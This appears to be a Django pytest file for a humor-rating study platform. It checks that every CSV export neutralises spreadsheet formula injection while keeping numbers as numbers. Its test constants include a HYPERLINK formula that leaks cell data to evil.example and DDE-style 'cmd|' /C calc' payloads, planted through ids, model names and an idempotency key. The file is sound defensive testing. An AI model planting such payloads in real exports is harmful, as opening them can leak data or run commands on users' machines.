"""CSV formula injection: every CSV a user can download neutralises cells that a spreadsheet would
run as a formula, planted through item ids, model names, humor types, imported rater ids, an
anonymous rater's idempotency key and a judge model's name, while numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from apps.analysis.services import study_aggregate
from apps.core.spreadsheet import FORMULA_START, spreadsheet_cell
from apps.dashboard.results.views import CSV_NAMES
from apps.judgments.services import study_judgments_import
from apps.reports import services
from apps.reports.tables import SCREENING_TABLE_NAMES, SELECTABLE_TABLES
from apps.screening.models import JudgeComparison, ScreeningRun
from apps.studies.models import Study
from apps.studies.services import (
    study_configure,
    study_create,
    study_items_import,
    study_status_set,
)
from tests.faults import browser, post_scorecard

pytestmark = pytest.mark.django_db

DEMO = Path(__file__).resolve().parents[2] / "fixtures" / "demo"
ITEM = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SOURCE = "+cmd|' /C calc'!A0"
HUMOR = "@SUM(1+1)*cmd|' /C calc'!A0"
RATER = "-2+3+cmd|' /C calc'!A0"
TOPIC = "\t=1+1"
KEY = "-1-1-1-1-A1"


def test_the_helper_neutralises_formula_starts_and_keeps_numbers():
    for payload in (ITEM, SOURCE, HUMOR, RATER, TOPIC, KEY, "\r=1", "-", "+", "@", "=1"):
        assert spreadsheet_cell(payload) == "'" + payload
    for number in ("-1.5", "+3", "-2e-05", "0.25", "-0", ".5"):
        assert spreadsheet_cell(number) == number
    for value in (-1.5, -3, 0, 1e-9, True):
        assert spreadsheet_cell(value) is value
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell("a=b") == "a=b"


def _hostile(line: dict) -> dict:
    swap = {"j001": ITEM, "quipster-v2": SOURCE, "pun": HUMOR, "r01": RATER}
    for key in ("id", "item", "left", "right", "winner", "source", "humor_type", "rater"):
        if key in line and line[key] in swap:
            line[key] = swap[line[key]]
    if line.get("topic") == "programmers":
        line["topic"] = TOPIC
    return line


def _lines(path: Path) -> bytes:
    rows = [_hostile(json.loads(raw)) for raw in path.read_text().splitlines() if raw.strip()]
    return "".join(json.dumps(row) + "\n" for row in rows).encode()


@pytest.fixture
def hostile_study(builtin_rubrics, settings, tmp_path) -> Study:
    settings.MEDIA_ROOT = tmp_path / "media"
    study = study_create(slug="hostile", rubric_slug="humor", random_seed=5)
    study_items_import(study=study, data=_lines(DEMO / "items.jsonl"), filename="items.jsonl")
    study_judgments_import(
        study=study, data=_lines(DEMO / "judgments.jsonl"), filename="judgments.jsonl"
    )
    study_configure(
        study=study,
        task_mix={"scorecard": 1.0},
        attention_check_rate=0,
        target_scorecards_per_item=200,
    )
    study = study_status_set(study=study, status=Study.Status.OPEN)
    # An anonymous rater plants a formula through the idempotency key of an answer.
    client, _, assignment = browser(study)
    assert post_scorecard(client, study, assignment, KEY).status_code == 201
    study_aggregate(study=study, rounds=20)
    return study


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(text: str, where: str) -> list[str]:
    cells = _cells(text)
    assert cells, where
    for cell in cells:
        if cell.startswith(FORMULA_START):
            float(cell)  # only a number may start so; anything else would run as a formula
    return cells


def test_the_raw_judgments_csv_neutralises_planted_formulas(hostile_study, tmp_path):
    path = tmp_path / "raw.csv"
    services.export_write(study=hostile_study, fmt="raw", path=path)
    cells = _assert_safe(path.read_text(), "raw")
    for payload in (ITEM, RATER, KEY):
        assert "'" + payload in cells
    rows = list(csv.DictReader(io.StringIO(path.read_text())))
    assert any(row["idempotency_key"] == "'" + KEY for row in rows)
    scores = [row["value"] for row in rows if row["kind"] == "score"]
    assert scores
    assert all(float(value) == int(value) for value in scores)  # answers stay numbers


def test_every_csv_in_tables_zip_neutralises_planted_formulas(hostile_study, tmp_path):
    path = tmp_path / "tables.zip"
    services.export_write(study=hostile_study, fmt="tables", path=path)
    found: set[str] = set()
    negative_numbers = 0
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            cells = _assert_safe(archive.read(name).decode(), name)
            found.update(cells)
            negative_numbers += sum(1 for cell in cells if cell.startswith("-"))
    for payload in (ITEM, SOURCE, HUMOR):
        assert "'" + payload in found
    # Centred Bradley-Terry scores include negative numbers, written as numbers.
    assert negative_numbers > 0


def test_direct_csv_downloads_neutralise_planted_formulas(hostile_study, admin_client):
    for table in SELECTABLE_TABLES:
        response = admin_client.get(
            f"/studies/{hostile_study.slug}/exports/direct/csv?table={table}"
        )
        assert response.status_code == 200, table
        _assert_safe(response.content.decode(), table)
    items = admin_client.get(f"/studies/{hostile_study.slug}/exports/direct/csv?table=items")
    assert "'" + ITEM in _cells(items.content.decode())


def test_results_page_csvs_neutralise_planted_formulas(hostile_study, admin_client):
    seen: set[str] = set()
    for name in CSV_NAMES:
        # All items: the planted one may not be evidence about its model.
        response = admin_client.get(
            f"/studies/{hostile_study.slug}/results/data/{name}.csv?view=all"
        )
        assert response.status_code == 200, name
        seen.update(_assert_safe(response.content.decode(), name))
    assert "'" + ITEM in seen


def test_the_export_command_csv_neutralises_planted_formulas(hostile_study):
    out = io.StringIO()
    call_command("export", hostile_study.slug, "--format", "csv", stdout=out)
    cells = _assert_safe(out.getvalue(), "export --format csv")
    assert "'" + ITEM in cells
    out = io.StringIO()
    call_command("export", hostile_study.slug, "--format", "raw", stdout=out)
    assert "'" + KEY in _assert_safe(out.getvalue(), "export --format raw")


def test_export_jobs_downloaded_through_the_api_neutralise_planted_formulas(
    hostile_study, admin_user
):
    client = Client()
    client.force_login(admin_user)
    for fmt in ("raw", "tables"):
        created = client.post(
            f"/api/v1/studies/{hostile_study.slug}/exports/",
            {"format": fmt},
            content_type="application/json",
        )
        assert created.status_code in (201, 202), created.content
        job = created.json()["id"]
        download = client.get(f"/api/v1/studies/{hostile_study.slug}/exports/{job}/download/")
        assert download.status_code == 200, download
        data = b"".join(download.streaming_content)
        if fmt == "raw":
            assert "'" + KEY in _assert_safe(data.decode(), "api raw")
        else:
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                for name in archive.namelist():
                    _assert_safe(archive.read(name).decode(), name)


def test_the_pre_screening_tables_neutralise_a_planted_judge_model_name(
    hostile_study, admin_client, tmp_path
):
    ScreeningRun.objects.create(
        study=hostile_study, top_k=3, batch_size=10, judge_model=SOURCE, status="done"
    )
    overall = {"n": 3, "judge_mean": 2.0, "human_mean": 1.5, "humor_type": ""}
    JudgeComparison.objects.create(
        study=hostile_study,
        model_name=ITEM,
        payload={"question": "funniness", "overall": overall, "by_humor_type": []},
        seed=1,
        rounds=20,
        computed_at=timezone.now(),
    )
    seen: set[str] = set()
    for table in SCREENING_TABLE_NAMES:
        response = admin_client.get(
            f"/studies/{hostile_study.slug}/exports/direct/csv?table={table}"
        )
        assert response.status_code == 200, table
        seen.update(_assert_safe(response.content.decode(), table))
    assert {"'" + ITEM, "'" + SOURCE} <= seen
    path = tmp_path / "tables.zip"
    services.export_write(study=hostile_study, fmt="tables", path=path)
    with zipfile.ZipFile(path) as archive:
        judge = _assert_safe(archive.read("screening_judge.csv").decode(), "screening_judge")
        run = _assert_safe(archive.read("screening_run.csv").decode(), "screening_run")
    assert "'" + ITEM in judge
    assert "'" + SOURCE in run
